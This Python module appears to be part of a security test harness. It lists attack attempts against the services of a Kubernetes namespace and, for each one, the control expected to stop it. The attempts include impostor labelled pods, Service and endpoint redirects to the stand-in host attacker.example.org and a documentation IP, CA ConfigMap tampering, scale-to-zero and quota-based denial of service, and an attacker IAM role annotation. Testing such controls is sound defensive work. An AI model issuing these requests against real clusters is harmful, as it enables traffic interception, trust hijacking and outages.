"""Attack 9: take the connections and the data of a service, or what it works by."""

from components.kube.names import GATEWAY_API
from components.service.file.service import ServiceSpec
from zt.attack.attempt import Attempt
from zt.attack.evidence import Control
from zt.attack.namespace.requests import (
    Request,
    Requests,
    controllers,
    create,
    own_pod,
    path_of,
    pods_path,
    targets,
    tries,
    tries_pods,
)
from zt.attack.session import Session
from zt.attack.temporary_rights import NAME
from zt.cluster.manifest import Manifest, part, word

ADDRESS = "203.0.113.10"
"""An address reserved for documentation (RFC 5737) as the attacker's."""

ADDRESSES = "disallow-external-ips"
"""The one critical rule that judges Services, not pods."""

_NOTED: Manifest = {"cni.projectcalico.org/podIP": ADDRESS}
_HOST = "attacker.example.org"
_AUTHORITIES = ("kube-root-ca.crt", "istio-ca-root-cert", "istio-ca-crl")
_OWNER = "app.kubernetes.io/name"
_NO_SERVICE = "no Service of the namespace is a service's"

# What belongs to a service, and a change of it that takes something from the service or gives something to others.
_BACKEND = {"name": NAME, "port": {"number": 80}}
_TO_HOST = {"type": "ExternalName", "externalName": _HOST, "clusterIP": None, "clusterIPs": None, "selector": None}
CHANGES: dict[tuple[str, str], tuple[Manifest, ...]] = {
    ("v1", "services"): (
        {"spec": {"selector": {"app": NAME}}},
        {"spec": _TO_HOST},
        {"spec": {"externalIPs": [ADDRESS]}},
    ),
    ("v1", "configmaps"): ({"data": {NAME: "was-here"}},),
    ("v1", "serviceaccounts"): (
        {"automountServiceAccountToken": True, "imagePullSecrets": [{"name": NAME}]},
        {"metadata": {"annotations": {"eks.amazonaws.com/role-arn": "arn:aws:iam::1:role/attacker"}}},
    ),
    ("apps/v1", "deployments"): ({"spec": {"replicas": 0}}, {"spec": {"paused": True}}),
    ("apps/v1", "statefulsets"): ({"spec": {"replicas": 0}},),
    ("batch/v1", "cronjobs"): ({"spec": {"suspend": True}},),
    ("autoscaling/v2", "horizontalpodautoscalers"): ({"spec": {"minReplicas": 1, "maxReplicas": 1, "metrics": None}},),
    ("policy/v1", "poddisruptionbudgets"): ({"spec": {"minAvailable": None, "maxUnavailable": "100%"}},),
    ("networking.k8s.io/v1", "ingresses"): ({"spec": {"defaultBackend": {"service": _BACKEND}}},),
    ("v1", "persistentvolumeclaims"): ({"metadata": {"annotations": {NAME: "was-here"}}},),
}
# What controllers found out of a service's objects, and others act upon.
_STATUSES: dict[tuple[str, str], Manifest] = {
    ("apps/v1", "deployments"): {"observedGeneration": 0},
    ("apps/v1", "statefulsets"): {"observedGeneration": 0},
    ("policy/v1", "poddisruptionbudgets"): {"disruptionsAllowed": 0},
    ("networking.k8s.io/v1", "ingresses"): {"loadBalancer": {"ingress": [{"ip": ADDRESS}]}},
    (GATEWAY_API, "httproutes"): {"parents": []},
}
MESH_KINDS = (
    ("gateway.networking.k8s.io/v1", "httproutes"),
    ("networking.istio.io/v1", "destinationrules"),
    ("networking.istio.io/v1", "sidecars"),
    ("networking.istio.io/v1", "serviceentries"),
    ("security.istio.io/v1", "authorizationpolicies"),
    ("security.istio.io/v1", "peerauthentications"),
    ("security.istio.io/v1", "requestauthentications"),
)


def _of_services(session: Session, api_version: str, plural: str) -> list[tuple[str, Manifest]]:
    """The path and the object of each object of a kind that is a service's own: by its labels, as the program's are."""
    names = {spec.name for spec in targets(session)}
    collection = path_of(api_version, plural, session.service.namespace)
    return [
        (f"{collection}/{item['metadata']['name']}", item)
        for item in session.admin.listed(collection)
        if word(item, "metadata", "labels", _OWNER) in names or word(item, "metadata", "name") in names
    ]


def _change(session: Session) -> list[Request]:
    return [
        Request("PATCH", path, change)
        for kind, changes in CHANGES.items()
        if kind != ("v1", "services")
        for path, _ in _of_services(session, *kind)
        for change in changes
    ]


def _change_services(session: Session) -> list[Request]:
    kind = ("v1", "services")
    return [Request("PATCH", path, change) for path, _ in _of_services(session, *kind) for change in CHANGES[kind]]


def _delete(session: Session) -> list[Request]:
    return [Request("DELETE", path) for kind in CHANGES for path, _ in _of_services(session, *kind)]


def _disown(session: Session) -> list[Request]:
    labels = {_OWNER: NAME, "app": NAME, "app.kubernetes.io/managed-by": NAME}
    # The garbage collector deletes what belongs to an object that is not there.
    owner = {"apiVersion": "v1", "kind": "ConfigMap", "name": NAME, "uid": "6ba7b810-9dad-11d1-80b4-00c04fd430c8"}
    return [
        Request("PATCH", path, {"metadata": metadata})
        for kind in CHANGES
        for path, _ in _of_services(session, *kind)
        for metadata in ({"labels": labels}, {"ownerReferences": [owner]})
    ]


def _mesh_objects(session: Session) -> list[Request]:
    requests: list[Request] = []
    for kind in MESH_KINDS:
        for path, _ in _of_services(session, *kind):
            requests += [Request("DELETE", path), Request("PATCH", path, {"metadata": {"labels": {NAME: "was-here"}}})]
    return requests


def _scale(session: Session) -> list[Request]:
    scaled = [
        Request("PATCH", f"{path}/scale", {"spec": {"replicas": 0}})
        for kind in (("apps/v1", "deployments"), ("apps/v1", "statefulsets"))
        for path, _ in _of_services(session, *kind)
    ]
    namespace = session.service.namespace
    aimed = [
        create(
            "autoscaling/v2",
            "HorizontalPodAutoscaler",
            "horizontalpodautoscalers",
            namespace,
            {"spec": {"scaleTargetRef": reference, "minReplicas": 1, "maxReplicas": 1}},
        )
        for kind, plural in (("Deployment", "deployments"), ("StatefulSet", "statefulsets"))
        for _, item in _of_services(session, "apps/v1", plural)
        for reference in [{"apiVersion": "apps/v1", "kind": kind, "name": item["metadata"]["name"]}]
    ]
    return scaled + aimed


def _labels(session: Session, spec: ServiceSpec) -> Manifest:
    """What a Service of a service looks for in a pod."""
    path = path_of("v1", "services", spec.namespace, spec.name)
    answer = session.admin.call("GET", path)
    return part(answer.body, "spec", "selector") or {"app": spec.name}


def _impostor(session: Session, spec: ServiceSpec) -> Manifest:
    """A pod outside the mesh, with an account of nobody, that a Service of a service would take for its own."""
    body = own_pod(session)
    body["metadata"]["labels"] = {**_labels(session, spec), "sidecar.istio.io/inject": "false"}
    return body


def _labelled_pods(session: Session) -> list[Request]:
    return [Request("POST", pods_path(session), _impostor(session, spec)) for spec in targets(session)]


def _labelled_templates(session: Session) -> list[Request]:
    return [request for spec in targets(session) for request in controllers(session, _impostor(session, spec))]


def _relabelled_pods(session: Session) -> list[Request]:
    """Each service's running pod given the labels of another service, none, and another address for the network."""
    requests: list[Request] = []
    specs = targets(session)
    for number, spec in enumerate(specs):
        other = specs[(number + 1) % len(specs)]
        labels = ({"app": NAME}, _labels(session, other)) if other != spec else ({"app": NAME},)
        changes: list[Manifest] = [{"labels": changed} for changed in labels]
        for pod in session.pods_of(spec)[:1]:
            path = f"{pods_path(session)}/{pod['metadata']['name']}"
            requests += [Request("PATCH", path, {"metadata": one}) for one in [*changes, {"annotations": _NOTED}]]
    return requests


def _own_services(session: Session) -> list[Request]:
    """By the labels that the service's own Service has, and by each other label of its pods."""
    ports = [{"port": 80, "targetPort": 8080}]
    selectors = [_labels(session, spec) for spec in targets(session)]
    for spec in targets(session):
        for pod in session.pods_of(spec)[:1]:
            selectors += [{key: value} for key, value in part(pod, "metadata", "labels").items()]
    namespace = session.service.namespace
    contents: list[Manifest] = [{"spec": {"selector": selector, "ports": ports}} for selector in selectors]
    return [create("v1", "Service", "services", namespace, content) for content in contents]


def _external_addresses(session: Session) -> list[Request]:
    """A Service takes what any pod of the cluster sends to its external address, whoever has that address."""
    namespace = session.service.namespace
    taken: list[Manifest] = [{"externalIPs": [ADDRESS]}, {"type": "LoadBalancer", "loadBalancerIP": ADDRESS}]
    contents: list[Manifest] = [{"spec": {"selector": {"app": NAME}, "ports": [{"port": 443}], **one}} for one in taken]
    return [create("v1", "Service", "services", namespace, content) for content in contents]


def _own_budgets(session: Session) -> list[Request]:
    """A budget that keeps every pod where it is: no node can be emptied, and none of its pods is moved."""
    selectors: list[Manifest] = [{}, *({"matchLabels": _labels(session, spec)} for spec in targets(session))]
    namespace = session.service.namespace
    contents: list[Manifest] = [{"spec": {"maxUnavailable": 0, "selector": selector}} for selector in selectors]
    return [
        create("policy/v1", "PodDisruptionBudget", "poddisruptionbudgets", namespace, content) for content in contents
    ]


def _authorities(session: Session) -> list[Request]:
    """The certificates by which the pods of the namespace know the API server and the mesh."""
    collection = path_of("v1", "configmaps", session.service.namespace)
    return [
        request
        for item in session.admin.listed(collection)
        if word(item, "metadata", "name") in _AUTHORITIES
        for path in [f"{collection}/{item['metadata']['name']}"]
        for request in (
            Request("PATCH", path, {"data": dict.fromkeys(part(item, "data"), NAME)}),
            Request("DELETE", path),
        )
    ]


def _statuses(session: Session) -> list[Request]:
    """Say of each service's pods that they have another address, and of the rest that all is different."""
    moved: Manifest = {"status": {"podIP": ADDRESS, "podIPs": [{"ip": ADDRESS}]}}
    requests = [
        Request("PATCH", f"{pods_path(session)}/{pod['metadata']['name']}/status", moved)
        for spec in targets(session)
        for pod in session.pods_of(spec)[:1]
    ]
    for kind, status in _STATUSES.items():
        requests += [Request("PATCH", f"{path}/status", {"status": status}) for path, _ in _of_services(session, *kind)]
    return requests


def _bounds(session: Session) -> list[Request]:
    """Room for no pod at all in the namespace, and none for what a pod of a service needs."""
    none: Manifest = {"spec": {"hard": {"pods": "0"}}}
    little: Manifest = {"spec": {"limits": [{"type": "Container", "max": {"memory": "1Mi"}}]}}
    namespace = session.service.namespace
    return [
        create("v1", "ResourceQuota", "resourcequotas", namespace, none),
        create("v1", "LimitRange", "limitranges", namespace, little),
    ]


def _routes_at_services(session: Session) -> list[Request]:
    """A route of the mesh at each service, which has the service's callers sent to a Service of its own."""
    rules: list[Manifest] = [{"backendRefs": [{"name": NAME, "port": 80}]}]
    return [
        create(GATEWAY_API, "HTTPRoute", "httproutes", spec.namespace, {"spec": {"parentRefs": [at], "rules": rules}})
        for spec in targets(session)
        for at in [{"group": "", "kind": "Service", "name": spec.name}]
    ]


def _endpoints(session: Session) -> list[Request]:
    namespace = session.service.namespace
    requests: list[Request] = []
    for spec in filter(lambda spec: spec.port, targets(session)):
        slice_: Manifest = {
            "addressType": "IPv4",
            "endpoints": [{"addresses": [ADDRESS]}],
            "ports": [{"name": name or spec.protocol, "port": port} for name, (port, _) in spec.called_ports.items()],
        }
        labels = {"kubernetes.io/service-name": spec.name}
        subsets = [{"addresses": [{"ip": ADDRESS}], "ports": [{"port": port} for port in spec.open_ports]}]
        requests += [
            create("discovery.k8s.io/v1", "EndpointSlice", "endpointslices", namespace, slice_, {"labels": labels}),
            Request("PATCH", path_of("v1", "endpoints", namespace, spec.name), {"subsets": subsets}),
        ]
    return requests


_OBJECTS = Control("critical", "ServiceObjects: service-objects")
_RIGHTS = Control("identity", "the built-in roles: no right of the platform's API groups")

_RIGHTS_OF_CONTROLLERS = Control("identity", "the built-in roles")


def _attempt(name: str, tried: str, requests: Requests, nothing: str = _NO_SERVICE) -> Attempt:
    return Attempt(name, 9, tried, _OBJECTS, tries(requests, nothing))


ATTEMPTS = (
    Attempt(
        "labelled-pod",
        9,
        "Create a pod outside the mesh with the labels of each service, which becomes an end of its Service.",
        _OBJECTS,
        tries_pods(_labelled_pods),
    ),
    Attempt(
        "labelled-template",
        9,
        "The same by each kind of object that makes pods.",
        _OBJECTS,
        tries_pods(_labelled_templates),
    ),
    _attempt(
        "relabelled-pod",
        "Give a running pod of each service other labels and another address.",
        _relabelled_pods,
        "no pod runs",
    ),
    _attempt("change-service", "Point the Service of each service elsewhere.", _change_services),
    _attempt("service-for-pods", "Create a Service of its own for the pods of each service.", _own_services),
    Attempt(
        "external-address",
        9,
        "Create a Service that takes the traffic of an address outside the cluster.",
        Control("critical", "KyvernoPolicySet", (ADDRESSES,)),
        tries(_external_addresses, _NO_SERVICE),
    ),
    Attempt(
        "endpoints-of-service",
        9,
        "Add an end of its own to each Service.",
        _RIGHTS_OF_CONTROLLERS,
        tries(_endpoints, _NO_SERVICE),
    ),
    Attempt(
        "status-of-service",
        9,
        "Say that the pods of each service are elsewhere, and that its objects are as they are not.",
        _RIGHTS_OF_CONTROLLERS,
        tries(_statuses, _NO_SERVICE),
    ),
    Attempt(
        "route-at-service",
        9,
        "Create a route of the mesh that sends the callers of each service elsewhere.",
        _RIGHTS,
        tries(_routes_at_services, _NO_SERVICE),
    ),
    Attempt(
        "bound-namespace",
        9,
        "Leave no room for a pod of a service in the namespace.",
        _RIGHTS_OF_CONTROLLERS,
        tries(_bounds),
    ),
    _attempt("budget-for-service", "Forbid that a pod of a service is ever moved.", _own_budgets),
    _attempt(
        "authorities",
        "Have the pods of the namespace trust another authority.",
        _authorities,
        "the namespace has no certificate of an authority",
    ),
    _attempt("change-objects", "Change configuration, account, scaling and budget of each service.", _change),
    _attempt("delete-objects", "Delete whatever the platform made for each service.", _delete),
    _attempt("disown-objects", "Say that an object of a service is another's, by its labels and its owner.", _disown),
    _attempt("scale-service", "Scale each service to nothing, and aim an autoscaler of its own at it.", _scale),
    Attempt(
        "mesh-objects",
        9,
        "Change and delete routes, identities and policies of the mesh of each service.",
        _RIGHTS,
        tries(_mesh_objects, "the mesh has no object of a service of the namespace"),
    ),
)
